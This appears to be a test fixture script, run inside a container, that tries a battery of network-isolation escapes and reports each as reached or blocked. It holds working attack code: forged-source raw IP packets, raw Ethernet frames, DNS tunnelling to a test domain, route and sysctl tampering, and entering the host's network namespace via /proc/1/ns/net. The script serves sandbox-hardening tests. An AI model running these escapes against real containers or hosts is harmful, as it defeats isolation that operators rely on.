"""What a hostile job tries. Runs inside a container, with nothing but Python's standard library.

Standard input: JSON with the addresses to attack. Standard output: one line for each attack, `NAME reached DETAIL` or
`NAME blocked REASON`. Every attack that could leave something sends `MARK NAME`, for which the test's listeners look.
"""

import ctypes
import json
import os
import socket
import struct
import subprocess
import sys
from collections.abc import Callable

TIMEOUT_S = 0.5
MARK = b"hostile"
SOL_IP, IP_FREEBIND, IP_TRANSPARENT = 0, 15, 19


def attack(name: str, action: Callable[..., object], *arguments: object) -> None:
    try:
        result = action(name, *arguments)
    except Exception as error:
        print(name, "blocked", type(error).__name__, error, flush=True)
    else:
        print(name, "reached", result, flush=True)


def tcp(name: str, address: str, port: int, source: str | None = None, option: int | None = None) -> bytes:
    """Connects, and gets an answer."""
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM) as sock:
        sock.settimeout(TIMEOUT_S)
        if option is not None:
            sock.setsockopt(SOL_IP, option, 1)
        if source is not None:
            sock.bind((source, 0))
        sock.connect(socket.getaddrinfo(address, port, family)[0][4])
        sock.sendall(MARK + b" " + name.encode() + b"\n")
        return sock.recv(100)


def udp(name: str, address: str, port: int, data: bytes | None = None) -> bytes:
    """Sends, and gets an answer."""
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        sock.settimeout(TIMEOUT_S)
        sock.connect(socket.getaddrinfo(address, port, family)[0][4])
        sock.send(data or MARK + b" " + name.encode())
        return sock.recv(500)


def echo_request(name: str) -> bytes:
    data = MARK + b" " + name.encode()
    header = struct.pack("!BBHHH", 8, 0, 0, 1, 1)
    padded = header + data + b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(padded) // 2}H", padded))
    total = (total >> 16) + (total & 0xFFFF)
    return struct.pack("!BBHHH", 8, 0, ~(total + (total >> 16)) & 0xFFFF, 1, 1) + data


def ping(name: str, address: str, kind: int) -> int:
    """ICMP: by a ping socket, which needs no rights, or by a raw one."""
    with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as sock:
        sock.settimeout(TIMEOUT_S)
        sock.sendto(echo_request(name), (address, 0))
        return len(sock.recv(500))


def forged(name: str, source: str, target: str, port: int) -> int:
    """A whole IP packet under another source address."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        data = MARK + b" " + name.encode()
        datagram = struct.pack("!HHHH", 4242, port, 8 + len(data), 0) + data
        addresses = socket.inet_aton(source) + socket.inet_aton(target)
        header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(datagram), 1, 0, 64, 17, 0) + addresses
        return sock.sendto(header + datagram, (target, 0))


def frame(name: str) -> int:
    """An Ethernet frame of one's own."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as sock:
        sock.bind(("eth0", 0))
        return sock.send(b"\xff" * 6 + b"\x02" * 6 + b"\x08\x06" + MARK + b" " + name.encode())


def lookup(_: str, host: str) -> object:
    """A DNS tunnel: the name carries the data, whoever resolves it gets it."""
    return socket.getaddrinfo(host, 80)[0][4][0]


def command(_: str, *words: str) -> str:
    done = subprocess.run(["busybox", *words], check=False, capture_output=True, text=True, timeout=10)
    if done.returncode:
        raise OSError(done.stderr.strip())
    return "done"


def write(_: str, path: str, text: str) -> str:
    with open(path, "w") as file:
        file.write(text)
    return "written"


def enter(_: str, path: str | None) -> str:
    """Another network namespace: the host's, if it can be had."""
    libc = ctypes.CDLL(None, use_errno=True)
    if path is None:
        if libc.unshare(0x10000000 | 0x40000000):  # a user namespace in which one is root, and a network one
            raise OSError(ctypes.get_errno(), "unshare")
        raise OSError("a network of its own, which leads nowhere")
    descriptor = os.open(path, os.O_RDONLY)
    if libc.setns(descriptor, 0):
        raise OSError(ctypes.get_errno(), "setns")
    return "entered"


def through_proxy(_: str, gateway: str, port: int, target: str, source: str | None = None) -> str:
    """What the proxy answers to a request for a target; only its 200 is a way out."""
    with socket.socket() as sock:
        sock.settimeout(5)
        if source is not None:
            sock.bind((source, 0))
        sock.connect((gateway, port))
        sock.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
        answer = sock.recv(300).decode("latin-1").split("\r\n")[0]
    if " 200 " not in answer:
        raise OSError(answer)
    return answer


def main() -> None:
    given = json.load(sys.stdin)
    gateway, proxy, port, dns = given["gateway"], given["proxy_port"], given["port"], given["dns_port"]
    for address in given["addresses"]:
        attack(f"tcp-{address}", tcp, address, port)
        attack(f"udp-{address}", udp, address, port)
        attack(
            f"dns-{address}", udp, address, dns, b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x07hostile\x04test\0\0\x10\0\x01"
        )
    for address in given["addresses"]:
        if ":" not in address:
            attack(f"ping-{address}", ping, address, socket.SOCK_DGRAM)
            attack(f"raw-ping-{address}", ping, address, socket.SOCK_RAW)
    for open_port in given["other_ports"]:
        attack(f"port-{open_port}", tcp, gateway, open_port)
    attack("lookup", lookup, "data.hostile.test")
    attack("forged", forged, given["neighbour"], given["world"], port)
    attack("forged-to-host", forged, given["neighbour"], gateway, port)
    attack("frame", frame)
    attack("freebind", tcp, given["world"], port, given["neighbour"], IP_FREEBIND)
    attack("transparent", tcp, given["world"], port, given["neighbour"], IP_TRANSPARENT)
    attack("route", command, "route", "add", "-host", given["world"], "gw", gateway)
    attack("own-address", command, "ip", "addr", "add", f"{given['neighbour']}/29", "dev", "eth0")
    attack("ipv6-switch", write, "/proc/sys/net/ipv6/conf/eth0/disable_ipv6", "0")
    attack("ip-forward-switch", write, "/proc/sys/net/ipv4/conf/all/route_localnet", "1")
    attack("own-namespace", enter, None)
    attack("hosts-namespace", enter, "/proc/1/ns/net")
    for target in given["proxied"]:
        attack(f"proxied-{target}", through_proxy, gateway, proxy, target)
    attack("neighbours-gateway", through_proxy, given["neighbours_gateway"], proxy, given["allowed"])
    attack("as-neighbour", through_proxy, gateway, proxy, given["allowed"], given["neighbour"])
    attack("allowed", through_proxy, gateway, proxy, given["allowed"])


if __name__ == "__main__":
    main()
